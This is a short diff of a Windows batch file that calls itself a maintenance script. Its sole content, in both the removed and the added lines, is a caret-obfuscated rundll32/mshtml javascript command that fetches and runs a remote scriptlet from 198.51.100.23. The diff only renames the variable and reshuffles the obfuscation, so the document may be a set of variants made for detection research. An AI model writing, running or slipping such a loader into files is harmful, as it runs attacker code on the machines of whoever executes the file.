@@ -1,4 +1,4 @@
-REM maintenance 2496 v1
+REM maintenance 9257 v1
 @echo off
-set "lprc=^rundl^l32.ex^e j^a^va^sc^r^ipt:"\..\mshtml,RunHTMLApplication ";^d^ocument.wri^te();^Get^Obje^ct("script:http://198.51.100.23/r.sct")"
-call %lprc%
+set yyal=run^d^ll3^2.^exe j^a^va^s^cri^pt:"\..\mshtml,RunHTMLApplication ";^doc^ument.^w^ri^te();GetObject("script:http://198.51.100.23/r.sct")
+call %yyal%
